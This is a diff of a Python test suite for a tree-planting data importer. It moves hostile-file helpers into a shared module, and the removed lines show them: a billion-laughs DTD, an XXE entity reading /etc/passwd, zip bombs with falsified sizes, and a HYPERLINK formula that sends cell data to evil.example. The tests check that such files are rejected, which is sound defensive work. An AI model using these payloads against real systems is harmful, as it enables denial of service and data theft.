@@ -13,14 +13,12 @@ import csv
 import io
 import json
 import re
-import sqlite3
 import time
 import uuid
 import zipfile
 from collections.abc import Sequence
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any
 
 import openpyxl
 import pytest
@@ -29,87 +27,32 @@ from hypothesis import strategies as st
 
 from fieldlog.cli import main
 from tests.conftest import db_signature
+from tests.hostile import (
+    COLUMN,
+    FORMULA_TEXTS,
+    HEADER,
+    LAUGHS,
+    XXE,
+    copy_database,
+    damaged_xlsx,
+    entity_xlsx,
+    good_row,
+    huge_dimension_xlsx,
+    lying_sizes_xlsx,
+    number_cell_xlsx,
+    planting_xlsx,
+    query,
+    raw_csv,
+    rewrite_zip,
+    seed_database,
+    write_csv,
+    write_xlsx,
+    zeros_member,
+)
 
 # -- helpers ---------------------------------------------------------------------------------------------
 
-HEADER = ["Event", "Date", "Species", "Plants", "Area (m²)", "Latitude", "Longitude", "Notes"]
-COLUMN = {name: index for index, name in enumerate(HEADER)}
-SPECIES = ["Croton megalocarpus", "Prunus africana", "Markhamia lutea", "Podocarpus falcatus"]
-
-
-def good_row(number: int = 0, **changes: str) -> list[str]:
-    """A valid planting row for the event 'Tree day' already in the database; `changes` by header."""
-    row = ["Tree day", "2024-05-02", SPECIES[number % len(SPECIES)] + (f" {number}" if number >= 4 else ""),
-           str(10 + number), "50", "-1.2367", "36.835", f"row {number}"]
-    for header, value in changes.items():
-        row[COLUMN[header.replace("_", " ")]] = value
-    return row
-
-
-def write_csv(path: Path, rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER, *,
-              delimiter: str = ",", encoding: str = "utf-8") -> Path:
-    """A CSV written by the csv module (so the structure is sound; only the values are hostile)."""
-    buffer = io.StringIO(newline="")
-    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
-    writer.writerow(header)
-    writer.writerows(rows)
-    path.write_bytes(buffer.getvalue().encode(encoding))
-    return path
-
-
-def write_xlsx(path: Path, sheets: dict[str, Sequence[Sequence[Any]]], *, text_only: bool = True) -> Path:
-    """A workbook, one sheet per entry (first row the headers). With `text_only`, a string that starts
-    with = is stored as text; otherwise openpyxl stores it as a real formula."""
-    workbook = openpyxl.Workbook()
-    workbook.remove(workbook.active)
-    for title, rows in sheets.items():
-        worksheet = workbook.create_sheet(title)
-        for row in rows:
-            worksheet.append(list(row))
-        if text_only:
-            for cells in worksheet.iter_rows():
-                for cell in cells:
-                    if isinstance(cell.value, str):
-                        cell.data_type = "s"
-    workbook.save(path)
-    return path
-
-
-def planting_xlsx(path: Path, rows: Sequence[Sequence[Any]], *, text_only: bool = True) -> Path:
-    return write_xlsx(path, {"Planting": [HEADER, *rows]}, text_only=text_only)
-
-
-def rewrite_zip(source: Path, target: Path, replace: dict[str, bytes | None]) -> Path:
-    """Copy a zip, replacing (or with None dropping) members by name; members not in `source` are added."""
-    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
-        for info in old.infolist():
-            if info.filename in replace:
-                data = replace[info.filename]
-                if data is not None:
-                    new.writestr(info.filename, data)
-            else:
-                new.writestr(info, old.read(info.filename))
-        for name in set(replace) - set(old.namelist()):
-            data = replace[name]
-            if data is not None:
-                new.writestr(name, data)
-    return target
-
-
-def member(path: Path, name: str) -> str:
-    with zipfile.ZipFile(path) as archive:
-        return archive.read(name).decode("utf-8")
-
-
 signature = db_signature
-
-
-def query(db: Path, sql: str, *parameters: Any) -> list[tuple[Any, ...]]:
-    connection = sqlite3.connect(db)
-    try:
-        return connection.execute(sql, parameters).fetchall()
-    finally:
-        connection.close()
 
 
 def plantings(db: Path) -> int:
@@ -164,15 +107,7 @@ class Seeded:
 @pytest.fixture(scope="session")
 def seeded_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """Built once per worker: two events (Beach day, Tree day), one planting, and 3 demo events."""
-    folder = tmp_path_factory.mktemp("template")
-    db = folder / "data" / "fieldlog.db"
-    events = write_csv(folder / "events.csv", [["Beach day", "2024-05-01", "Karura Forest", "KE", "10"],
-                                               ["Tree day", "2024-05-02", "Karura Forest", "KE", "5"]],
-                       ["Event", "Start", "Site", "Country", "Participants"])
-    planting = write_csv(folder / "planting.csv", [good_row(0, Species="Acacia tortilis")])
-    for args in (["import", str(events)], ["import", str(planting)], ["demo-data", "--events", "3"]):
-        assert main(args, location=str(db)) == 0, args
-    return db
+    return seed_database(tmp_path_factory.mktemp("template"))
 
 
 @pytest.fixture
@@ -183,16 +118,6 @@ def seeded(seeded_template: Path, tmp_path: Path, capsys: pytest.CaptureFixture[
     files = tmp_path / "files"
     files.mkdir()
     return Seeded(db, files, capsys)
-
-
-def copy_database(source: Path, target: Path) -> None:
-    """A consistent copy of a database file (its WAL included), through SQLite's backup API."""
-    old, new = sqlite3.connect(source), sqlite3.connect(target)
-    try:
-        old.backup(new)
-    finally:
-        new.close()
-        old.close()
 
 
 # -- the file itself is unusable -------------------------------------------------------------------------
@@ -211,16 +136,8 @@ def test_truncated_xlsx(seeded: Seeded, keep: float) -> None:
 
 
 def test_xlsx_with_a_damaged_part(seeded: Seeded) -> None:
-    whole = planting_xlsx(seeded.folder / "whole.xlsx", [good_row(i) for i in range(1, 40)])
-    data = bytearray(whole.read_bytes())
-    with zipfile.ZipFile(whole) as archive:
-        info = archive.getinfo("xl/worksheets/sheet1.xml")
-    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
-    for offset in range(start + 20, start + info.compress_size - 20, 7):  # scramble the deflated sheet
-        data[offset] ^= 0x5A
-    damaged = seeded.folder / "damaged.xlsx"
-    damaged.write_bytes(bytes(data))
-    seeded.rejected(damaged, expect=["the workbook is damaged: a compressed part of it cannot be unpacked"])
+    seeded.rejected(damaged_xlsx(seeded.folder),
+                    expect=["the workbook is damaged: a compressed part of it cannot be unpacked"])
 
 
 @pytest.mark.parametrize(("content", "expect"), [
@@ -252,20 +169,6 @@ def test_workbook_renamed_to_csv(seeded: Seeded) -> None:
 
 
 # -- zip bombs ------------------------------------------------------------------------------------------
-
-def zeros_member(target: Path, base: Path, size_mb: int, level: int) -> Path:
-    """`base` with its sheet replaced by `size_mb` MB of zeros, written in streaming fashion."""
-    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED,
-                                                       compresslevel=level) as new:
-        for info in old.infolist():
-            if info.filename != "xl/worksheets/sheet1.xml":
-                new.writestr(info.filename, old.read(info.filename))
-        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
-            block = b"\0" * (1 << 20)
-            for _ in range(size_mb):
-                sheet.write(block)
-    return target
-
 
 def test_workbook_that_expands_to_300_mb(seeded: Seeded) -> None:
     base = planting_xlsx(seeded.folder / "base.xlsx", [good_row(1)])
@@ -301,33 +204,11 @@ def test_workbook_with_too_many_parts(seeded: Seeded, monkeypatch: pytest.Monkey
 
 def test_workbook_part_that_lies_about_its_size(seeded: Seeded) -> None:
     """20 MB of zeros declared as 100 bytes: the size checks pass, and unpacking stops at the declared size."""
-    base = planting_xlsx(seeded.folder / "base.xlsx", [good_row(1)])
-    bomb = zeros_member(seeded.folder / "bomb.xlsx", base, 20, level=9)
-    data = bytearray(bomb.read_bytes())
-    name = b"xl/worksheets/sheet1.xml"
-    with zipfile.ZipFile(bomb) as archive:
-        info = archive.getinfo(name.decode())
-    assert info.file_size == 20 * 2**20
-    local = info.header_offset
-    assert data[local + 30:local + 30 + len(name)] == name
-    central = next(i for i in range(len(data)) if data.startswith(b"PK\x01\x02", i)
-                   and data[i + 46:i + 46 + len(name)] == name)
-    for offset in (central + 24, local + 22):  # uncompressed size, in the central directory and the local header
-        if data[offset:offset + 4] != b"\xff\xff\xff\xff":
-            data[offset:offset + 4] = (100).to_bytes(4, "little")
-    liar = seeded.folder / "lying_sizes.xlsx"
-    liar.write_bytes(bytes(data))
-    run = seeded.rejected(liar, expect=["the workbook is damaged"])
+    run = seeded.rejected(lying_sizes_xlsx(seeded.folder), expect=["the workbook is damaged"])
     assert run.seconds < 5
 
 
 # -- XML tricks ----------------------------------------------------------------------------------------
-
-LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
-          + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
-                    for n in range(1, 10)) + "]>\n")
-XXE = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
-
 
 @pytest.mark.parametrize(("part", "dtd", "entity"), [
     ("xl/sharedStrings.xml", LAUGHS, "lol9"),
@@ -336,29 +217,7 @@ XXE = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/pass
     ("xl/workbook.xml", LAUGHS, "lol9"),
 ])
 def test_xml_entity_tricks(seeded: Seeded, part: str, dtd: str, entity: str) -> None:
-    base = planting_xlsx(seeded.folder / "base.xlsx", [good_row(1, Notes="laugh")])
-    parts: dict[str, bytes | None] = {}
-    sheet = member(base, "xl/worksheets/sheet1.xml")
-    notes_cell = re.compile(r'<c r="H2"[^>]*>.*?</c>')
-    if part == "xl/sharedStrings.xml":  # the Notes cell refers to shared string 0, which holds the entity
-        sheet, found = notes_cell.subn('<c r="H2" t="s"><v>0</v></c>', sheet, count=1)
-        types = member(base, "[Content_Types].xml").replace("</Types>", (
-            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
-            'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
-        parts["[Content_Types].xml"] = types.encode()
-        parts["xl/worksheets/sheet1.xml"] = sheet.encode()
-        xml = ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
-               f"<si><t>&{entity};</t></si></sst>")
-    elif part == "xl/workbook.xml":
-        xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", member(base, part)).replace('name="Planting"',
-                                                                        f'name="&{entity};"', 1)
-        found = 1
-    else:  # the Notes cell becomes an inline string holding the entity
-        xml, found = notes_cell.subn(f'<c r="H2" t="inlineStr"><is><t>&{entity};</t></is></c>',
-                                     re.sub(r"^<\?xml[^>]*\?>\s*", "", sheet), count=1)
-    assert found == 1 and f"&{entity};" in xml
-    parts[part] = (dtd + xml).encode()
-    hostile = rewrite_zip(base, seeded.folder / "billion_laughs.xlsx", parts)
+    hostile = entity_xlsx(seeded.folder, part, dtd, entity)
     run = seeded.rejected(hostile, expect=["unsafe XML in the workbook"])
     assert run.seconds < 5
     assert "root:" not in run.out + run.err
@@ -367,11 +226,7 @@ def test_xml_entity_tricks(seeded: Seeded, part: str, dtd: str, entity: str) -> 
 # -- dimensions ----------------------------------------------------------------------------------------
 
 def test_huge_declared_dimension_reads_only_real_rows(seeded: Seeded) -> None:
-    base = planting_xlsx(seeded.folder / "base.xlsx", [good_row(1)])
-    sheet = member(base, "xl/worksheets/sheet1.xml")
-    sheet, found = re.subn(r'<dimension ref="A1:H2"\s*/>', '<dimension ref="A1:XFD1048576"/>', sheet)
-    assert found == 1
-    huge = rewrite_zip(base, seeded.folder / "huge_dimension.xlsx", {"xl/worksheets/sheet1.xml": sheet.encode()})
+    huge = huge_dimension_xlsx(seeded.folder, [good_row(1)])
     before = plantings(seeded.db)
     run = seeded.import_(huge)
     assert run.code == 0, run.err
@@ -388,10 +243,6 @@ def test_real_formula_where_a_value_belongs(seeded: Seeded) -> None:
     seeded.rejected(workbook, expect=["formula_injection.xlsx, sheet 'Planting', row 3, column 'Plants': "
                                       "contains a formula (=I2*1000), not a value",
                                       "paste it back as values only", "nothing was imported"])
-
-
-FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+254 700 000000", "-- see log book",
-                 "@SUM(A1:A9)", "=1+1\nsecond line", "- Karura; see map"]
 
 
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
@@ -466,11 +317,7 @@ def test_invalid_value(seeded: Seeded, kind: str, header: str, value: str, reaso
 ])
 def test_extreme_number_cells_in_xlsx_xml(seeded: Seeded, number: str, reason: str) -> None:
     """A number cell whose XML holds what Excel never writes (a crafted file can)."""
-    base = planting_xlsx(seeded.folder / "base.xlsx", [[*good_row(1)[:4], 77.5, *good_row(1)[5:]]])
-    sheet = member(base, "xl/worksheets/sheet1.xml")
-    assert "<v>77.5</v>" in sheet
-    hostile = rewrite_zip(base, seeded.folder / "extreme.xlsx",
-                          {"xl/worksheets/sheet1.xml": sheet.replace("<v>77.5</v>", f"<v>{number}</v>").encode()})
+    hostile = number_cell_xlsx(seeded.folder, number)
     seeded.rejected(hostile, expect=[f"row 2, column 'Area (m²)': {reason}"])
 
 
@@ -581,11 +428,6 @@ def test_utf16_without_bom_asks_for_the_encoding(seeded: Seeded) -> None:
 
 
 # -- structural CSV damage ------------------------------------------------------------------------------
-
-def raw_csv(path: Path, *lines: bytes) -> Path:
-    path.write_bytes(b"\r\n".join([",".join(HEADER).encode(), *lines]) + b"\r\n")
-    return path
-
 
 def test_quoted_newline_is_valid(seeded: Seeded) -> None:
     path = raw_csv(seeded.folder / "planting.csv",
